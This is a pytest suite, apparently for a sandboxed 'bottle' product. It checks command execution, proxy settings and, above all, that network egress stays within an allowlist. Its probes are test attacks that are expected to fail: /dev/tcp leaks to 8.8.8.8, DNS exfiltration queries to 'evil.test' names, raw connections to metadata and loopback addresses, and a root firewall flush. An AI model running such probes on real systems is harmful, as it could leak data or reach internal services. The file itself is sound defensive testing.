# SPDX-License-Identifier: Apache-2.0
"""One bottle, many assertions: what works in it, and what does not leave it."""
import hashlib
import json
import re
import struct

import pytest

import product as products
from conftest import both

ALIAS = "python3 -c 'import os; print(os.environ[\"HTTP_PROXY\"])'"

# A flow header straight to port 6003 of gate, as a guest kernel may send it; in a container to gate's socket. Returns
# the reply's status.
RAW_FLOW = r'''
import os, socket, struct, sys, ipaddress
def to_gate():
    unix = os.path.exists("/bottle/6003")
    s = socket.socket(socket.AF_UNIX if unix else socket.AF_VSOCK, socket.SOCK_STREAM)
    s.settimeout(15)
    s.connect("/bottle/6003" if unix else (2, 6003))
    return s
def flow(addr, port, send=b"", family=None):
    a = ipaddress.ip_address(addr)
    s = to_gate()
    s.sendall(struct.pack(">HBBBBH16s", 0x4246, 1, family or a.version, 6, 0, port, a.packed.ljust(16, b"\0")))
    r = b""
    while len(r) < 4:
        d = s.recv(4 - len(r))
        if not d:
            return "closed"
        r += d
    if r[0] == 0 and send:
        s.sendall(send)
        got = b""
        while len(got) < len(send):
            d = s.recv(65536)
            if not d:
                break
            got += d
        assert got == send
    s.close()
    return str(r[0])
'''


def proxy_of(bottle):
    r = bottle.sh("echo $HTTP_PROXY")
    m = re.match(rb"http://(127\.\d+\.\d+\.\d+):9099\n", r.out)
    assert m, r
    return m.group(1).decode()


@pytest.fixture(scope="module", autouse=True)
def before(internet):
    """How many names the world's DNS server was asked for before this file."""
    return len(internet.queries())


# --- exec -----------------------------------------------------------------------------------------

@both
def test_exec_echo(bottle):
    r = bottle.sh("echo out; echo err >&2; exit 7")
    assert (r.code, r.out, r.err) == (7, b"out\n", b"err\n"), r
    assert bottle.sh("kill -TERM $$").code == 128 + 15
    assert bottle.exec("no-such-command-here").code == 127
    assert bottle.exec("cat", input=b"to the end").out == b"to the end"
    r = bottle.exec("wc", "-c", input=b"x" * 3000000)
    assert r.out.split() == [b"3000000"], r
    with open("/dev/full", "wb") as full:  # no reader that went: a write that failed is said
        r = bottle.exec("echo", "out", stdout=full)
    assert r.code == 1 and b"standard output: No space left on device" in r.err, r
    r = bottle.product.run("exec", "--workdir", "/none", bottle.identity, "--", "pwd")
    assert r.code == 125 and b"working directory: No such file or directory" in r.err, r
    assert bottle.product.run("exec", "--workdir", "/tmp", bottle.identity, "--", "pwd").out == b"/tmp\n"


@both
def test_exec_100_mb_through_stdout(bottle):
    script = "import sys\nb=bytes(range(256))*4096\n[sys.stdout.buffer.write(b) for _ in range(100)]"
    r = bottle.py(script, timeout=240)
    want = hashlib.sha256(bytes(range(256)) * 4096 * 100).hexdigest()
    assert r.code == 0 and len(r.out) == 104857600
    assert hashlib.sha256(r.out).hexdigest() == want


@both
def test_exec_pty_size_and_resize(bottle):
    """A terminal of our own: the size arrives, and so does a change of it."""
    import fcntl
    import os
    import pty
    import termios
    import time
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 33, 101, 0, 0))
    p = bottle.product.popen("exec", bottle.identity, "--", "bash", "-c",
                             "stty size; trap 'stty size' WINCH; echo ready; read -r x; read -r x; echo got $x",
                             stdin=slave, stdout=slave, stderr=slave, start_new_session=True)
    out = b""

    def until(what):
        nonlocal out
        end = time.time() + 40
        while what not in out:
            assert time.time() < end, out
            out += os.read(master, 4096)
    until(b"33 101")
    until(b"ready")
    fcntl.ioctl(master, termios.TIOCSWINSZ, struct.pack("HHHH", 44, 120, 0, 0))
    p.send_signal(28)  # SIGWINCH: it is not the terminal's foreground group here
    # the trap runs when read returns
    time.sleep(1)
    os.write(master, b"\r")
    until(b"44 120")
    os.write(master, b"word\r")
    until(b"got word")
    assert p.wait(20) == 0
    os.close(master)
    os.close(slave)


# --- guest basics ---------------------------------------------------------------------------------

def test_guest_basics(bottle):
    assert bottle.sh("getent hosts localhost").code == 0
    assert bottle.sh("cat <(echo sub)").out == b"sub\n"
    assert bottle.exec("hostname").out.decode().strip() == bottle.identity
    assert bottle.exec("sudo", "id", "-u").out == b"0\n"
    assert bottle.exec("id", "-un").out == b"node\n"
    assert bottle.sh("pwd").out == b"/home/node\n"
    assert bottle.sh("touch /workspace/f /tmp/f ~/f && df / /tmp | wc -l").code == 0
    assert bottle.sh("echo $GREETING").out == b"from the manifest\n"
    assert bottle.sh("grep nameserver /etc/resolv.conf").out == b"nameserver 127.0.0.1\n"
    assert abs(int(bottle.sh("date +%s").out) - __import__("time").time()) < 3
    assert bottle.sh("ip -o link | grep -v -e ' lo:' -e dummy | wc -l").out == b"0\n"


@both
def test_proxy_env_on_alias(bottle):
    alias = proxy_of(bottle)
    env = dict(l.split("=", 1) for l in bottle.exec("env").out.decode().splitlines() if "=" in l)
    url = "http://%s:9099" % alias
    for name in ("HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy"):
        assert env[name] == url
    for name in ("NO_PROXY", "no_proxy"):
        assert env[name] == "localhost,127.0.0.1,::1," + alias


def test_proxy_env_after_sudo(bottle):
    """sudo drops the environment: it is in place again from files."""
    assert bottle.sh("sudo -i env | grep -c ^HTTPS_PROXY=").out == b"1\n"


# --- what is allowed ------------------------------------------------------------------------------

@both
def test_allowed_host_through_proxy(bottle, evidence):
    evidence.control()
    r = bottle.sh("curl -sS -m 20 http://allowed.test/hello")
    assert r.out == b"hello from the world\n", r
    r = bottle.sh("curl -sS -m 20 https://wild.zone.test/hello")
    assert r.out == b"hello from the world\n", r
    # 100 MiB; of TLS, which is slow where the machine is translated, the first sixth
    big = b"".join(bytes([i % 251]) * 65536 for i in range(1600))
    for url, n in (("http://allowed.test/big", len(big)), ("-r 0-16777215 https://allowed.test/big", 16 << 20)):
        r = bottle.sh("curl -sS -m %d %s | sha256sum" % (120 * products.SLOW, url), timeout=200)
        assert r.out.split()[0].decode() == hashlib.sha256(big[:n]).hexdigest(), r
    kinds = [(x["kind"], x["verdict"]) for x in evidence.new_records() if x.get("host") == "allowed.test"]
    assert ("verdict", "allow") in kinds and any(k == "end" for k, _ in kinds), kinds


def test_cidr_in_the_guest(bottle, evidence):
    """Without proxy or header of its own: the fence sends it to gate."""
    r = bottle.py("import socket;s=socket.create_connection(('203.0.113.20',7000),15);"
                  "s.sendall(b'over tcp');print(s.recv(99))")
    assert r.out == b"b'over tcp'\n", r


@both
def test_cidr_allowlist(bottle, evidence):
    r = bottle.py(RAW_FLOW + """
for a, p in (("203.0.113.21", 7000), ("203.0.113.20", 7001), ("::ffff:203.0.113.21", 7000),
             ("2002:cb00:7115::", 7000), ("64:ff9b::cb00:7115", 7000), ("203.0.113.19", 7000)):
    print(a, p, flow(a, p))
""", user=bottle.root)
    assert r.code == 0, r
    assert [l.split()[-1] for l in r.out.decode().splitlines()] == ["1"] * 6, r
    evidence.nothing_left()
    evidence.denied(kind="flow", reason="default_deny")
    # control: the same header to the allowed address, also in its v4-mapped spelling
    r = bottle.py(RAW_FLOW + "print(flow('203.0.113.20', 7000, b'raw'), flow('::ffff:203.0.113.20', 7000, b'x'))",
                  user=bottle.root)
    assert r.out == b"0 0\n", r
    evidence.control()


# --- what is denied -------------------------------------------------------------------------------

@both
def test_same_host_direct_denied(bottle, evidence):
    r = bottle.sh("dig +short allowed.test")
    synthetic = r.out.decode().strip()
    assert synthetic.startswith("198.1"), r
    for target in ("allowed.test", "203.0.113.10", synthetic):
        for scheme, port in (("http", 80), ("https", 443)):
            r = bottle.sh("env -i PATH=$PATH curl -k -sS -m 15 --resolve x.test:%d:%s %s://%s/hello" % (
                port, target if target[0].isdigit() else "127.0.0.1", scheme, target))
            assert r.code != 0 and b"hello" not in r.out, (target, r)
    # what a container cannot even send is asked of gate directly
    r = bottle.py(RAW_FLOW + "print(flow('203.0.113.10', 443), flow(%r, 443), flow(%r, 80))" % (synthetic, synthetic),
                  user=bottle.root)
    assert r.out == b"1 1 1\n", r
    evidence.nothing_left()
    evidence.denied(kind="flow", reason="synthetic_direct")
    evidence.control()


@both
def test_unlisted_host_through_proxy_denied(bottle, evidence):
    for url in ("https://denied.test/", "http://denied.test/", "https://203.0.113.12/", "https://0xcb00710c/",
                "http://3405803788/", "https://allowed.test:8443/"):
        r = bottle.sh("curl -k -sS -m 15 -o /dev/null -w '%%{http_connect} %%{http_code}' %s" % url)
        assert b"403" in r.out, (url, r)
    evidence.nothing_left()
    evidence.denied(kind="verdict", host="denied.test", reason="not_listed")
    r = bottle.sh("curl -sS -m 15 http://denied.test/")
    body = json.loads(r.out)
    assert body["error"] == "egress_denied" and body["host"] == "denied.test", body
    evidence.control()


@both
def test_private_and_loopback_names_refused(bottle, evidence):
    """Listed names that resolve where no name may lead (DNS rebinding)."""
    for host in ("private.test", "loop.test"):
        r = bottle.sh("curl -sS -m 15 -o /dev/null -w '%%{http_code}' http://%s/" % host)
        assert r.out in (b"502", b"403"), (host, r)
    assert evidence.internet.packets("dst host 10.1.2.3") == []
    evidence.denied(kind="flow", host="private.test", reason="private_range", addr="10.1.2.3")
    evidence.denied(kind="flow", host="loop.test", reason="floor", addr="127.0.0.1")
    evidence.control()


def dig(bottle, *questions, time=5, show="status: [A-Z]*"):
    """All by one program, which starts slowly in a translated machine. Return: what its output has of @show"""
    r = bottle.sh("dig +tries=1 +time=%d %s | grep -o -E '%s'" % (time, " ".join(questions), show), timeout=240)
    return r.out.decode().splitlines()


TYPES = ("A AAAA NS CNAME SOA PTR MX TXT SRV HTTPS SVCB CAA DS DNSKEY NAPTR TLSA SSHFP NULL ANY "
         "TYPE65534").split()


@both
def test_dns_unlisted_nxdomain(bottle, evidence):
    got = dig(bottle, *("secret-%s.evil.test %s %s" % (t.lower(), t, proto) for t in TYPES for proto in ("+notcp", "+tcp")))
    assert got == ["status: NXDOMAIN"] * 2 * len(TYPES), got
    evidence.nothing_left()
    evidence.denied(kind="dns", reason="not_listed")
    evidence.control()


def test_dns_hard_coded_resolvers(bottle, evidence):
    """They are not reached: the fence brings the question to our own. In a container: test_docker_no_dns."""
    got = dig(bottle, *("@%s leak.evil.test %s" % (server, proto) for server in ("8.8.8.8", "1.1.1.1") for proto in ("+notcp", "+tcp")))
    assert got == ["status: NXDOMAIN"] * 4, got
    evidence.nothing_left()
    evidence.denied(kind="dns", reason="not_listed")
    evidence.control()


@both
def test_dns_listed_synthetic(bottle, evidence):
    r = bottle.sh("dig +short allowed.test allowed.test x1.zone.test")
    first, again, wild = r.out.decode().split()
    assert first == again and first.startswith("198.1") and wild.startswith("198.1") and wild != first
    got = dig(bottle, *("allowed.test " + t for t in ("AAAA", "TXT", "MX", "HTTPS")), show="status: [A-Z]*|ANSWER: [0-9]+")
    assert got == ["status: NOERROR", "ANSWER: 0"] * 4, got
    assert bottle.sh("dig +short -x " + first).out == b"allowed.test.\n"
    assert dig(bottle, "allowed.test ANY +notcp") == ["status: REFUSED"]
    evidence.nothing_left()


@both
def test_dns_nothing_leaves(bottle, evidence, internet, before):
    """None of the queries above reached the wire, and DoT and DoH to the impostors do not either."""
    r = bottle.sh("for p in 853 443; do for a in 8.8.8.8 1.1.1.1; do "
                  "timeout 10 bash -c \"exec 3<>/dev/tcp/$a/$p; echo x >&3; head -c1 <&3\" && echo through; done; done")
    assert b"through" not in r.out, r
    r = bottle.py("import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
                  "for p in (443,853,5353,9999):\n"
                  "    try: s.sendto(b'leak',('8.8.8.8',p)); print('sent')\n"
                  "    except OSError as e: print(e.errno)\n")
    assert r.code == 0, r
    evidence.nothing_left()
    queries = internet.queries()[before:]
    assert not any("evil" in q or "leak" in q for q in queries)
    # what dialer asked for is only what was admitted
    asked = {q.split(" ")[-3].rstrip(".") for q in queries}
    assert asked <= {"allowed.test", "wild.zone.test", "private.test", "loop.test"}, asked
    evidence.control()


@both
def test_host_loopback_denied(bottle, evidence):
    r = bottle.py(RAW_FLOW + """
for a in ("127.0.0.1", "::ffff:127.0.0.1", "127.255.255.254", "::1", "0.0.0.0", "::", "2002:7f00:1::",
          "64:ff9b::7f00:1", "198.51.100.2", "169.254.169.254", "100.100.100.200", "fd00:ec2::254"):
    for p in (22, 80, 443):
        print(a, p, flow(a, p))
""", user=bottle.root)
    assert r.code == 0 and {l.split()[-1] for l in r.out.decode().splitlines()} == {"1"}, r
    evidence.nothing_left()
    evidence.denied(kind="flow", reason="floor")
    r = bottle.py(RAW_FLOW + "print(flow('203.0.113.20', 7000, b'control'))", user=bottle.root)
    assert r.out == b"0\n", r


@both
def test_malformed_flow_header(bottle):
    r = bottle.py(RAW_FLOW + r'''
for h in (b"\0" * 24, b"\x42\x46\x01\x04\x06\x01" + b"\0" * 18, b"\x42\x46\x02\x04\x06\0" + b"\0" * 18,
          b"\x42\x46\x01\x05\x06\0" + b"\0" * 18):
    s = to_gate(); s.sendall(h)
    print((s.recv(4) or b"\xff")[0])
''', user=bottle.root)
    assert r.out == b"5\n5\n5\n5\n", r


@both
def test_service_off(bottle, evidence):
    alias = proxy_of(bottle)
    r = bottle.py(RAW_FLOW + "print(flow(%r, 9418), flow(%r, 9100), flow(%r, 80))" % (alias, alias, alias), user=bottle.root)
    assert r.out == b"1 1 1\n", r
    evidence.denied(kind="flow", reason="service_off")
    assert not [x for x in evidence.new_records() if x["kind"] in ("verdict", "end")]
    evidence.control()


def test_unlisted_vsock_ports_refused(bottle, evidence):
    r = bottle.py(r'''
import socket
for port in (1, 22, 5000, 5002, 6001, 6004, 9099, 65535, 4294967294):
    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(10)
    try:
        s.connect((2, port)); print(port, "open")
    except OSError as e:
        print(port, e.errno)
''', user="root")
    assert r.code == 0 and b"open" not in r.out, r
    evidence.denied(kind="flow", method="vsock", reason="service_off", port=5002)
    evidence.denied(kind="flow", method="vsock", reason="service_off", text="port 4294967294")
    evidence.control()


def test_guest_root_flush_rules(bottle, evidence):
    """The guest's own rules protect nothing, so nothing changes without them."""
    r = bottle.sh("sudo nft -j list ruleset > /tmp/rules; sudo nft list ruleset > /tmp/listed; "
                  "sudo nft flush ruleset && sudo nft list ruleset | wc -l")
    assert r.out == b"0\n", r
    r = bottle.sh("for a in 203.0.113.12 203.0.113.99 8.8.8.8; do timeout 8 bash -c \"exec 3<>/dev/tcp/$a/443; "
                  "echo leak >&3; head -c1 <&3\" 2>/dev/null && echo through; done; true")
    assert b"through" not in r.out, r
    r = bottle.py(RAW_FLOW + "print(flow('203.0.113.12', 443), flow('8.8.8.8', 53), flow('203.0.113.99', 9999))",
                  user="root")
    assert r.out == b"1 1 1\n", r
    r = bottle.sh("dig +tries=1 +time=3 leak.evil.test | grep -o 'status: [A-Z]*'")
    assert r.out == b"status: NXDOMAIN\n", r
    evidence.nothing_left()
    evidence.denied(kind="flow", reason="default_deny")
    evidence.control()
    # other files' tests have this bottle as well
    assert bottle.sh("sudo nft -j -f /tmp/rules && sudo nft list ruleset | cmp - /tmp/listed").code == 0
